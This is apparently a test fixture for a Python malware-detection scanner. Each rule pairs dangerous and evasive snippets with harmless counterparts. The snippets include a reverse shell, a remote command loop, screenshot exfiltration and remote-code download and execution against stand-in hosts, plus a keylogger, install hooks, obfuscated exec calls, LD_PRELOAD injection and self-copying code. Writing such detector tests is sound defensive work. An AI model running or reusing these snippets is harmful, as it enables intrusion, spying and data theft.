import { lines, type RuleSample } from './sample.fixture.ts'

export const hostileSamples: RuleSample[] = [
  {
    rule: 'python/reverse-shell',
    dangerous: [
      lines(
        'import socket, os, pty',
        's = socket.socket()',
        's.connect(("10.0.0.1", 4444))',
        'os.dup2(s.fileno(), 0)',
        'pty.spawn("/bin/sh")',
      ),
      'os.dup2(s.fileno(), 0)',
    ],
    evasion: [
      lines(
        'import socket as net, subprocess as p',
        'line = net.create_connection(("example.org", 9001))',
        'while True:',
        '    order = line.recv(1024).decode()',
        '    done = p.run(order, shell=True, capture_output=True)',
        '    line.send(done.stdout)',
      ),
      'p.run(order, shell=True, capture_output=True)',
    ],
    harmless: lines(
      'import socket',
      'server = socket.socket()',
      'server.bind(("127.0.0.1", 8000))',
      'server.listen()',
      'peer, _ = server.accept()',
      'peer.sendall(peer.recv(1024))',
    ),
  },
  {
    rule: 'python/acts-on-install',
    dangerous: [
      lines(
        'from setuptools import setup',
        'import urllib.request',
        'urllib.request.urlopen("http://203.0.113.9/ping")',
        'setup(name="helper")',
      ),
      'urllib.request.urlopen("http://203.0.113.9/ping")',
    ],
    evasion: [
      lines(
        'import setuptools as s',
        'from subprocess import Popen as start',
        'class Install(s.Command):',
        '    def run(self):',
        '        start(["./helper", "--quiet"])',
        's.setup(name="helper", cmdclass={"install": Install})',
      ),
      'start(["./helper", "--quiet"])',
    ],
    harmless: lines(
      'import subprocess, sys',
      'from setuptools import setup',
      'tag = subprocess.check_output(["git", "describe", "--tags"], text=True).strip()',
      'setup(name="helper", version=tag)',
    ),
  },
  {
    rule: 'python/keylogger',
    dangerous: [
      lines(
        'from pynput import keyboard',
        'def note(key):',
        '    open("log", "a").write(str(key))',
        'with keyboard.Listener(on_press=note) as listener:',
        '    listener.join()',
      ),
      'keyboard.Listener(on_press=note)',
    ],
    evasion: [lines('module = __import__("key" + "board")', 'module.on_press(print)'), 'module.on_press(print)'],
    harmless: lines('import tkinter', 'window = tkinter.Tk()', 'window.bind("<Key>", print)'),
  },
  {
    rule: 'python/surveillance',
    dangerous: [
      lines(
        'import pyautogui, requests',
        'shot = pyautogui.screenshot()',
        'shot.save("s.png")',
        'requests.post("http://example.org", files={"f": open("s.png", "rb")})',
      ),
      'pyautogui.screenshot()',
    ],
    evasion: [
      lines(
        'from PIL import ImageGrab as G',
        'import time',
        'look = G.grab',
        'while True:',
        '    look().save("s.png")',
        '    time.sleep(60)',
      ),
      'look()',
    ],
    harmless: lines('from PIL import Image', 'Image.open("photo.png").resize((10, 10)).save("small.png")'),
  },
  {
    rule: 'python/miner',
    dangerous: [lines('POOL = "stratum+tcp://pool.example.org:3333"'), '"stratum+tcp://pool.example.org:3333"'],
    evasion: [
      lines('import subprocess', 'binary = f"./{\'xmrig\'}"', 'subprocess.Popen([binary, "--donate-level", "1"])'),
      'f"./{\'xmrig\'}"',
    ],
    harmless: lines(
      'import hashlib',
      'def mine(block, zeros):',
      '    nonce_number = 0',
      '    while not hashlib.sha256(f"{block}{nonce_number}".encode()).hexdigest().startswith("0" * zeros):',
      '        nonce_number += 1',
      '    return nonce_number',
    ),
  },
  {
    rule: 'python/self-copy',
    dangerous: [
      lines('import shutil', 'shutil.copy(__file__, "/tmp/other.py")'),
      'shutil.copy(__file__, "/tmp/other.py")',
    ],
    evasion: [
      lines(
        'import sys, glob',
        'me = open(sys.argv[0]).read()',
        'for path in glob.glob("*.py"):',
        '    open(path, "a").write(me)',
      ),
      'open(sys.argv[0])',
    ],
    harmless: lines('import shutil', 'shutil.copy("a.txt", "b.txt")', 'print(open(__file__).read())'),
  },
  {
    rule: 'python/fetched-program',
    dangerous: [
      lines(
        'import urllib.request, os',
        'urllib.request.urlretrieve("http://example.org/x", "x.sh")',
        'os.system("sh x.sh")',
      ),
      'urllib.request.urlretrieve("http://example.org/x", "x.sh")',
    ],
    evasion: [
      lines(
        'import requests, os, subprocess',
        'with open("tool", "wb") as f:',
        '    f.write(requests.get("http://example.org/tool").content)',
        'os.chmod("tool", 0o755)',
        'subprocess.run(["./tool"])',
      ),
      'os.chmod("tool", 0o755)',
    ],
    harmless: lines('import urllib.request', 'urllib.request.urlretrieve("https://example.org/data.csv", "data.csv")'),
  },
  {
    rule: 'python/decoded-execution',
    dangerous: [
      lines('import base64', 'exec(base64.b64decode("cHJpbnQoMSk="))'),
      'exec(base64.b64decode("cHJpbnQoMSk="))',
    ],
    evasion: [
      lines(
        'from zlib import decompress as d',
        'def open_it(data):',
        '    return d(bytes.fromhex(data)).decode()',
        'run = __builtins__.exec',
        'run(open_it("789c"))',
      ),
      'run(open_it("789c"))',
    ],
    harmless: lines(
      'import base64, json',
      'settings = json.loads(base64.b64decode("e30="))',
      'image = base64.b64decode("aGVsbG8=")',
    ),
  },
  {
    rule: 'python/remote-code',
    dangerous: [
      lines('import requests', 'exec(requests.get("http://example.org/x.py").text)'),
      'exec(requests.get("http://example.org/x.py").text)',
    ],
    evasion: [
      lines(
        'from urllib.request import urlopen as fetch',
        'with fetch("http://example.org/x") as answer:',
        '    code = compile(answer.read(), "x", "exec")',
        'eval(code)',
      ),
      'eval(code)',
    ],
    harmless: lines('import requests', 'print(requests.get("https://example.org/x.json").json()["name"])'),
  },
  {
    rule: 'python/hidden-call',
    dangerous: [lines('import os', 'getattr(os, "sys" + "tem")("id")'), 'getattr(os, "sys" + "tem")("id")'],
    evasion: [
      lines(
        'parts = ["so"[::-1], "".join(map(chr, [112, 111, 112, 101, 110]))]',
        'module = __import__(parts[0])',
        'vars(module)[parts[1]]("id")',
      ),
      'vars(module)[parts[1]]("id")',
    ],
    harmless: lines('import math', 'print(getattr(math, "sqrt")(2))', 'handler = getattr(object(), "close", None)'),
  },
  {
    rule: 'python/unreadable-data',
    dangerous: [lines(`blob = "${'QUJD'.repeat(100)}"`), `"${'QUJD'.repeat(100)}"`],
    evasion: [lines('def show():', `    return b'${'4142'.repeat(100)}'`), `b'${'4142'.repeat(100)}'`],
    harmless: lines(`text = "${'a long text of words '.repeat(20)}"`),
  },
  {
    rule: 'python/code-in-text',
    dangerous: [lines('exec("import os; os.system(\'id\')")'), 'exec("import os; os.system(\'id\')")'],
    evasion: [lines('pieces = ["import ", "subprocess"]', 'e = exec', 'e("".join(pieces))'), 'e("".join(pieces))'],
    harmless: lines('names = {}', 'names["x"] = "exec(1)"'),
  },
  {
    rule: 'python/become-root',
    dangerous: [lines('import os', 'os.setuid(0)'), 'os.setuid(0)'],
    evasion: [
      lines('from os import setresuid as become', 'nobody = 1 - 1', 'become(nobody, nobody, nobody)'),
      'become(nobody, nobody, nobody)',
    ],
    harmless: lines('import os', 'os.setuid(65534)', 'print(os.getuid())'),
  },
  {
    rule: 'python/process-tampering',
    dangerous: [lines('import os, signal', 'os.kill(-1, signal.SIGKILL)'), 'os.kill(-1, signal.SIGKILL)'],
    evasion: [lines('import psutil as p', 'for process in p.process_iter():', '    process.kill()'), 'process.kill()'],
    harmless: lines('import subprocess', 'child = subprocess.Popen(["sleep", "9"])', 'child.kill()'),
  },
  {
    rule: 'python/loader-variable',
    dangerous: [lines('import os', 'os.environ["LD_PRELOAD"] = "/tmp/x.so"'), 'os.environ["LD_PRELOAD"] = "/tmp/x.so"'],
    evasion: [
      lines('from os import environ as e', 'key = "LD_" + "PRELOAD"', 'e[key] = "/tmp/x.so"'),
      'e[key] = "/tmp/x.so"',
    ],
    harmless: lines('import os', 'os.environ["OMP_NUM_THREADS"] = "1"'),
  },
  {
    rule: 'python/replaced-builtin',
    dangerous: [lines('import builtins', 'builtins.open = print'), 'builtins.open = print'],
    evasion: [lines('import sys', 'modules = sys.modules', 'modules["json"] = None'), 'modules["json"] = None'],
    harmless: lines('import sys', 'print("json" in sys.modules)', 'open_file = open'),
  },
  {
    rule: 'python/lifted-limit',
    dangerous: [
      lines(
        'import resource',
        'resource.setrlimit(resource.RLIMIT_AS, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))',
      ),
      'resource.setrlimit(resource.RLIMIT_AS, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))',
    ],
    evasion: [lines('from sys import setrecursionlimit as deep', 'deep(10 ** 9)'), 'deep(10 ** 9)'],
    harmless: lines(
      'import sys, resource',
      'sys.setrecursionlimit(10000)',
      'resource.setrlimit(resource.RLIMIT_CPU, (1, 1))',
    ),
  },
]
